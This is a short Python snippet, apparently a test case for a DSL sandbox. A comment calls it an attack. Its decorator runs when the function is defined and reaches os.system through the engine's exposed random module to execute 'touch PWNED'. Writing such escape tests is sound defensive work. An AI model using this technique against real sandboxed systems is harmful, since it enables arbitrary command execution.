# Attack: a decorator runs any expression when the function is defined.
from dsl.runtime.engine import random as r


@lambda function: sorted(["touch PWNED"], key=r._os.system)
def rule():
    return 0
